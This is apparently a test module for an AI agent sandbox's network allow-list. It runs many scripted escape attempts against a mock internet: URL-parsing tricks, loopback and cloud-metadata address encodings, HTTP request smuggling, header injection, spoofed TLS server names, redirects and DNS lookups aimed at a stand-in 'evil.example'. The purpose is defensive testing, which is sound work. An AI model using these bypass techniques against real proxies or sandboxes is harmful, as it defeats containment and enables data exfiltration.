"""Attempts to reach something from inside of a computer with an allow-list, and what comes of them.

    unshare --net --mount python -m tests.sandbox.network_attempts

makes a network of its own: this process and its pool in one namespace, an "internet" with a
resolver and servers in another. It runs all attempts, and prints as JSON what each has printed and
what has arrived at a server, the resolver or this machine meanwhile. It needs root.
"""

from __future__ import annotations

import asyncio
import ipaddress
import json
import os
import re
import ssl
import struct
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import IO

from agentloop.sandbox import Computer, Pool, PoolSettings
from tests.patience import patient

GOOD, WILD, EVIL = "93.184.216.34", "93.184.216.35", "93.184.216.66"
SIX, EVIL_SIX = "2606:2800:220:1::34", "2606:2800:220:1::66"
INNER, LISTED, METADATA, RESOLVER = "10.1.2.4", "10.1.2.3", "169.254.169.254", "9.9.9.9"
OURS, OURS_PUBLIC, UPLINK = "192.0.2.1", "5.6.7.8", "192.0.2.2"
OUTSIDE = (GOOD, WILD, EVIL, SIX, EVIL_SIX, INNER, LISTED, METADATA, RESOLVER)
PORTS = (22, 80, 443, 5432, 7000, 8080)
TLS, RAW = 443, 5432

# What the resolver knows. Where the name is listed, the address need not be.
NAMES = {
    "good.example": [GOOD],
    "a.wild.example": [WILD],
    "wild.example": [WILD],
    "raw.example": [GOOD],
    "six.example": [SIX],
    "both.example": [INNER, GOOD],
    "lan.example": [LISTED],
    "evil.example": [EVIL, EVIL_SIX],
    "good.example.evil.example": [EVIL],
    "evilgood.example": [EVIL],
    "inner.example": [INNER],
    "loop.example": ["127.0.0.1"],
    "zero.example": ["0.0.0.0"],
    "metadata.example": [METADATA],
    "mapped.example": ["::ffff:127.0.0.1"],
    "loop6.example": ["::1"],
    "nat64.example": ["64:ff9b::7f00:1"],
    "six-to-four.example": ["2002:7f00:1::1"],
    "local.example": ["fd00::2"],
    "ours.example": [OURS],
    "ours-public.example": [OURS_PUBLIC],
}
INSIDE = [
    *("inner", "loop", "zero", "metadata", "mapped", "loop6", "nat64", "six-to-four", "local"),
    *("ours", "ours-public"),
]
LISTED_NAMES = [f"{name}.example" for name in ("good", "six", "both", *INSIDE)]
ALLOW = (
    f"allow:{','.join(LISTED_NAMES)}, *.wild.example:443, raw.example:5432, "
    f"lan.example:8080, {LISTED}:8080"
)

PRELUDE = r"""
import socket, ssl, sys, urllib.request
TIMEOUT = 3
def take(s):
    got = b""
    try:
        while part := s.recv(65536): got += part
    except OSError: pass
    print(got.decode("latin-1"))
def ask(*parts):
    with socket.create_connection(("127.0.0.1", 3128), TIMEOUT) as s:
        s.settimeout(TIMEOUT)
        for part in parts: s.sendall(part.encode() if isinstance(part, str) else part)
        take(s)
def get(url, *headers):
    ask("\r\n".join([f"GET {url} HTTP/1.1", *headers, "", ""]))
def tunnel(target):
    s = socket.create_connection(("127.0.0.1", 3128), TIMEOUT)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"): head += s.recv(1) or sys.exit(head)
    if b" 200 " not in head: sys.exit(head.decode())
    return s
def plain(target, request="GET /secret HTTP/1.0\r\nHost: evil.example\r\n\r\n"):
    s = tunnel(target); s.sendall(request.encode()); s.shutdown(socket.SHUT_WR); take(s)
def hello(name):
    coming, going = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(coming, going, server_hostname=name)
    try: tls.do_handshake()
    except ssl.SSLWantReadError: return going.read()
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
def secure(target, name):
    with context.wrap_socket(tunnel(target), server_hostname=name) as s:
        s.sendall(b"GET /secret HTTP/1.0\r\n\r\n"); take(s)
def direct(family, kind, address, *more):
    s = socket.socket(family, kind, *more); s.settimeout(TIMEOUT); s.connect(address)
    s.sendall(b"GET /secret HTTP/1.0\r\n\r\n"); take(s)
def fetch(url, data=None):
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler(), urllib.request.HTTPSHandler(context=context))
    print(opener.open(url, data, timeout=TIMEOUT).read().decode())
"""


@dataclass(frozen=True)
class Attempt:
    """A program inside, and where it may arrive.

    Attributes:
        arrives: addresses and ports that may see a connection. What one that must fail sends there
            has neither `/secret` nor `evil` in it.
    """

    name: str
    script: str
    arrives: tuple[str, ...] = ()


# Both TLS for another in pieces: a bytewise one, and one of two records.
BYTEWISE = "s = tunnel('good.example:443')\nfor b in hello('{}'): s.sendall(bytes([b]))\ntake(s)"
TWO_RECORDS = """
h = hello('evil.example'); half = len(h) // 2
s = tunnel('good.example:443')
for part in (h[5:half], h[half:]): s.sendall(h[:3] + len(part).to_bytes(2, 'big') + part)
take(s)"""
NEW_INTERFACE = """
import struct
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
s.send(struct.pack('IHHII', 32, 16, 0x605, 1, 0) + bytes(16))
print('' if struct.unpack_from('i', s.recv(999), 16)[0] else 'reached')"""
MANY = """
held = [socket.create_connection(('127.0.0.1', 3128), TIMEOUT) for _ in range(25)]
plain('evil.example:443')"""
PAIRS = "ask('GET http://good.example/ HTTP/1.1\\r\\n{}\\r\\n\\r\\n', {!r})"
SECOND = "GET http://evil.example/secret HTTP/1.1\r\nHost: evil.example\r\n\r\n"
REDIRECT = "fetch('http://good.example/to?{}/secret')"
RAW_TLS = "s = tunnel('raw.example:5432'); s.sendall(hello({})); take(s)"


def attempts(table: Mapping[str, str], *arrives: str) -> list[Attempt]:
    return [Attempt(name, script, arrives) for name, script in table.items()]


MUST_PASS = [
    *attempts(
        {
            "http": "fetch('http://good.example/')",
            "capital letters": "get('http://GOOD.Example/')",
            "port in the url": "get('http://good.example:80/a?b')",
            "body": "fetch('http://good.example/', bytes(1 << 20))",
            "public one of two addresses": "get('http://both.example/')",
            "ordinary user": "import os; os.setuid(65534); fetch('http://good.example/')",
        },
        f"{GOOD}:80",
    ),
    *attempts(
        {
            "https": "fetch('https://good.example/')",
            "tls in single bytes": BYTEWISE.format("good.example").replace(
                "take(s)", "print('reached' if s.recv(1) else '')"
            ),
        },
        f"{GOOD}:443",
    ),
    *attempts(
        {
            "address": f"get('http://{LISTED}:8080/')",
            "tunnel to an address": f"plain('{LISTED}:8080', 'x')",
            "private address of a name": "get('http://lan.example:8080/')",
        },
        f"{LISTED}:8080",
    ),
    *attempts(
        {
            "server that speaks first": "plain('raw.example:5432', '')",
            "tls on a port of its own": RAW_TLS.format("'raw.example'"),
        },
        f"{GOOD}:5432",
    ),
    *attempts({"name below a wildcard": "fetch('https://a.wild.example/')"}, f"{WILD}:443"),
    *attempts({"ipv6": "fetch('https://six.example/')"}, f"{SIX}:443"),
]

ELSEWHERE = [  # what a tunnel must not lead to
    *("evil.example:443", "evil.example.:443", "good.example.:443", "wild.example:443"),
    *("good.example.evil.example:443", "evilgood.example:443", "*.wild.example:443"),
    *("a.wild.example:80", "a.wild.example:8080", "good.example:22", "good.example:8080"),
    *("good.example", "good.example:", "good.example:0443", "good.example:65979"),
    *("good.example:443@evil.example:443", "good.example%00.evil.example:443"),
    *("good.example:443\\0.evil.example:443", "localhost:7000", "localhost:443"),
    *("127.0.0.1:7000", "127.0.0.1:3128", "127.1:7000", "2130706433:7000", "0x7f000001:7000"),
    *("0177.0.0.1:7000", "0.0.0.0:7000", "[::1]:7000", "[::]:7000", "[fe80::1%25lo]:7000"),
    *("[::ffff:127.0.0.1]:7000", "[::ffff:7f00:1]:7000", "[64:ff9b::a01:203]:8080"),
    *(f"{OURS}:7000", f"{OURS_PUBLIC}:443", f"{METADATA}:80", f"{METADATA}:443", f"{GOOD}:443"),
    *(f"[{SIX}]:443", f"{LISTED}:80", f"{LISTED}:443", f"{INNER}:8080", "10.1.2.0/24:8080"),
    *("172.17.0.1:443", "172.17.0.2:8080", f"{RESOLVER}:53"),
]

MUST_FAIL = [
    *attempts({f"tunnel to {target}": f"plain('{target}')" for target in ELSEWHERE}),
    *attempts({f"{name}.example": f"get('http://{name}.example/secret')" for name in INSIDE}),
    *attempts(
        {
            "direct": f"direct(socket.AF_INET, 1, ('{GOOD}', 80))",
            "direct by ipv6": f"direct(socket.AF_INET6, 1, ('{SIX}', 80))",
            "direct by udp": f"direct(socket.AF_INET, 2, ('{RESOLVER}', 53))",
            "direct to this machine": f"direct(socket.AF_INET, 1, ('{OURS}', 7000))",
            "direct to the bridge": "direct(socket.AF_INET, 1, ('172.17.0.1', 7000))",
            "ping": f"direct(socket.AF_INET, socket.SOCK_RAW, ('{GOOD}', 0), 1)",
            "packets": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).bind(('lo', 0))",
            "new interface": NEW_INTERFACE,
            "lookup": "print(socket.getaddrinfo('stolen.evil.example', 80))",
            "lookup of a listed name": "print(socket.getaddrinfo('good.example', 80))",
            "lookup by the proxy": "get('http://stolen.evil.example/secret')",
            "lookup for another port": "get('http://stolen.wild.example:80/secret')",
            "another host": "get('http://evil.example/secret')",
            "user in the url": "get('http://good.example@evil.example/secret')",
            "backslash in the url": r"get('http://good.example\\@evil.example/secret')",
            "fragment in the url": "get('http://good.example#@evil.example/secret')",
            "escape in the url": "get('http://good.example%2eevil.example/secret')",
            "https in the url": "get('https://evil.example/secret')",
            "ftp in the url": "get('ftp://good.example/secret')",
            "no host in the url": "get('/secret', 'Host: good.example')",
            "two urls": "get('http://good.example/ http://evil.example/secret')",
            "proxy as the server": "get('http://127.0.0.1:3128/secret')",
            "header in two lines": "get('http://good.example/', 'Host: good', ' evil.example')",
            "space behind a name": "get('http://good.example/', 'Host : evil.example')",
            "bare line feed": PAIRS.format("A: 1\\nHost: evil.example", ""),
            "carriage return": PAIRS.format("A: 1\\rHost: evil.example", ""),
            "two lengths": PAIRS.format("Content-Length: 0\\r\\nContent-Length: 99", SECOND),
            "signed length": PAIRS.format("Content-Length: +0", SECOND),
            "chunks": PAIRS.format("Transfer-Encoding: chunked", "0\r\n\r\n" + SECOND),
            "unknown chunks": PAIRS.format("Transfer-Encoding: xchunked", "0\r\n\r\n" + SECOND),
            "http 2": "ask('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')",
            "long head": "get('http://good.example/', *['A: 1'] * 9999)",
            "plain http in a tunnel": "plain('good.example:80')",
            "many connections": MANY,
        }
    ),
    *attempts(
        {
            "redirect to another host": REDIRECT.format("http://evil.example"),
            "redirect to this machine": REDIRECT.format("http://ours.example:7000"),
            "redirect to metadata": REDIRECT.format(f"http://{METADATA}"),
            "host of another": "get('http://good.example/', 'Host: evil.example')",
            "two hosts": "get('http://good.example/', 'Host: good.example', 'host: evil.example')",
            "second request": PAIRS.format("A: 1", SECOND),
            "request behind a body": PAIRS.format("Content-Length: 1", "x" + SECOND),
            "upgrade": "get('http://good.example/', 'Connection: Upgrade', 'Upgrade: evil')",
        },
        f"{GOOD}:80",
    ),
    *attempts(
        {
            "plain http in a tunnel of tls": "plain('good.example:443')",
            "tls that asks for another": "secure('good.example:443', 'evil.example')",
            "tls that asks for nobody": "secure('good.example:443', None)",
            "tls for another in single bytes": BYTEWISE.format("evil.example"),
            "tls for another in two records": TWO_RECORDS,
        },
        f"{GOOD}:443",
    ),
    *attempts(
        {
            "tls for another on a port of its own": RAW_TLS.format("'evil.example'"),
            "tls for nobody on a port of its own": RAW_TLS.format("None"),
        },
        f"{GOOD}:5432",
    ),
]


# -- the other side -----------------------------------------------------------------------------

Note = Callable[[str, str], None]
Arrived = Callable[[], list[tuple[str, str]]]


async def serve(listen: list[tuple[str, int]], certificate: Path, note: Note) -> None:
    """Serve addresses and ports; each connection is noted, and what it sends."""
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(certificate)

    async def handle(port: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        where = writer.get_extra_info("sockname")[0].removeprefix("::ffff:")
        here = f"{where}:{port}"
        note(here, "")
        try:
            if port == RAW:
                writer.write(b"reached\n")
                if await reader.read(1) == b"\x16":
                    note(here, "/secret")
                return
            if port == TLS:
                await writer.start_tls(context)
            head = await reader.read(1 << 16)
            note(here, head.decode("latin-1"))
            if length := re.search(rb"Content-Length: (\d+)", head):
                await reader.readexactly(int(length[1]) - len(head.partition(b"\r\n\r\n")[2]))
            if found := re.match(rb"GET /to\?(\S+)", head):
                writer.write(b"HTTP/1.1 302 Found\r\nLocation: %s\r\n\r\n" % found[1])
            else:
                writer.write(b"HTTP/1.1 200 OK\r\n\r\nreached " + here.encode())
            await writer.drain()
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    for address, port in listen:
        await asyncio.start_server(partial(handle, port), address, port)


class Resolver(asyncio.DatagramProtocol):
    """Answers for NAMES, and notes what it is asked."""

    def __init__(self, note: Note) -> None:
        self._note = note

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = transport

    def datagram_received(self, data: bytes, peer: tuple[str, int]) -> None:
        labels, at = [], 12
        while data[at]:
            labels.append(data[at + 1 : at + 1 + data[at]].decode("latin-1"))
            at += 1 + data[at]
        name, end = ".".join(labels), at + 5
        self._note(f"lookup of {name}", "")
        kind = int.from_bytes(data[at + 1 : at + 3], "big")
        found = [ipaddress.ip_address(a) for a in NAMES.get(name.lower(), [])]
        rows = [a.packed for a in found if kind == {4: 1, 6: 28}[a.version]]
        status = 0x8180 if found else 0x8183
        answer = data[:2] + struct.pack(">HHHHH", status, 1, len(rows), 0, 0) + data[12:end]
        for row in rows:
            answer += struct.pack(">HHHIH", 0xC00C, kind, 1, 60, len(row)) + row
        self._transport.sendto(answer, peer)  # type: ignore[attr-defined]


async def be_outside(certificate: Path) -> None:
    """Be the internet: tell what has arrived for each line on the standard input."""
    arrivals: list[tuple[str, str]] = []

    def note(where: str, text: str) -> None:
        arrivals.append((where, text))

    loop = asyncio.get_running_loop()
    print("ready", flush=True)
    lines = asyncio.StreamReader()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(lines), sys.stdin)
    await lines.readline()  # the addresses are there
    await loop.create_datagram_endpoint(lambda: Resolver(note), (RESOLVER, 53))
    await serve([(address, port) for address in OUTSIDE for port in PORTS], certificate, note)
    print("listening", flush=True)
    while await lines.readline():
        for _ in range(20):
            await asyncio.sleep(0)  # what has come before is accepted first
        print(json.dumps(arrivals), flush=True)
        arrivals.clear()


# -- this side ----------------------------------------------------------------------------------


def ip(*words: str) -> None:
    subprocess.run(["ip", *words], check=True)


def be_connected(pid: int) -> None:
    """Connect this namespace, which is empty, with that of a process."""
    ip("link", "set", "lo", "up")
    ip("address", "add", f"{OURS_PUBLIC}/32", "dev", "lo")
    ip("link", "add", "near", "type", "veth", "peer", "name", "far", "netns", str(pid))
    far = ("nsenter", f"--net=/proc/{pid}/ns/net", "ip")
    for address in (OURS + "/24", "fd00::1/64"):
        ip("address", "add", address, "dev", "near", *(["nodad"] if ":" in address else []))
    ip("link", "set", "near", "up")
    for words in (
        ("link", "set", "lo", "up"),
        *(("address", "add", a, "dev", "lo", *(["nodad"] if ":" in a else [])) for a in OUTSIDE),
        ("address", "add", f"{UPLINK}/24", "dev", "far"),
        ("address", "add", "fd00::2/64", "dev", "far", "nodad"),
        ("link", "set", "far", "up"),
    ):
        subprocess.run([*far, *words], check=True)
    ip("route", "add", "default", "via", UPLINK)
    ip("-6", "route", "add", "default", "via", "fd00::2")


@contextmanager
def outside(folder: Path) -> Iterator[tuple[IO[str], IO[str]]]:
    """Run the internet in a namespace of its own; yield its standard input and output."""
    certificate = folder / "certificate"
    subprocess.run(
        [
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            *f"-nodes -keyout {certificate} -out {folder}/c -subj /CN=x".split(),
        ],
        check=True,
        capture_output=True,
    )
    with certificate.open("a") as file:
        file.write((folder / "c").read_text())
    command = [sys.executable, "-m", "tests.sandbox.network_attempts", str(certificate)]
    with subprocess.Popen(
        ["unshare", "--net", *command], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    ) as process:
        assert process.stdin is not None
        assert process.stdout is not None
        try:
            process.stdout.readline()
            be_connected(process.pid)
            (folder / "resolv.conf").write_text(f"nameserver {RESOLVER}\n")
            (folder / "hosts").write_text("127.0.0.1 localhost\n::1 localhost\n")
            for name in ("resolv.conf", "hosts"):
                subprocess.run(["mount", "--bind", folder / name, f"/etc/{name}"], check=True)
            process.stdin.write("\n")
            process.stdin.flush()
            assert process.stdout.readline() == "listening\n"
            yield process.stdin, process.stdout
        finally:
            process.kill()


async def run(box: Computer, attempt: Attempt, arrived: Arrived) -> Mapping[str, object]:
    arrived()
    await box.write("/tmp/attempt.py", (PRELUDE + attempt.script).encode())
    result = await box.run("python3 /tmp/attempt.py", timeout_s=patient(30))
    return {
        "output": result.stdout,
        "problem": result.stderr[-300:],
        "arrived": arrived(),
        "s": result.elapsed_s,
    }


async def run_all() -> Mapping[str, object]:
    """Run all attempts, the first ones in a fork as well."""
    here: list[tuple[str, str]] = []
    with tempfile.TemporaryDirectory() as folder, outside(Path(folder)) as (ask, told):

        def arrived() -> list[tuple[str, str]]:
            ask.write("\n")
            ask.flush()
            taken = [*json.loads(told.readline()), *here]
            here.clear()
            return taken

        certificate = Path(folder) / "certificate"
        await serve_ours(certificate, lambda where, text: here.append((f"ours {where}", text)))
        settings = PoolSettings(backend="docker", workers=1, preload=[])
        async with Pool(settings) as pool, pool.computer(network=ALLOW) as box:
            results = {a.name: await run(box, a, arrived) for a in MUST_PASS + MUST_FAIL}
            async with box.fork() as fork:
                for a in (MUST_PASS[0], MUST_FAIL[0]):
                    results[f"in a fork: {a.name}"] = await run(fork, a, arrived)
    return results


async def serve_ours(certificate: Path, note: Note) -> None:
    """Listen on all addresses of this machine."""
    await serve([("0.0.0.0", port) for port in PORTS], certificate, note)
    await serve([("::1", port) for port in PORTS], certificate, note)


if __name__ == "__main__":
    if len(sys.argv) > 1:
        asyncio.run(be_outside(Path(sys.argv[1])))
    else:
        json.dump(asyncio.run(run_all()), sys.stdout)
        sys.stdout.flush()
        os._exit(0)
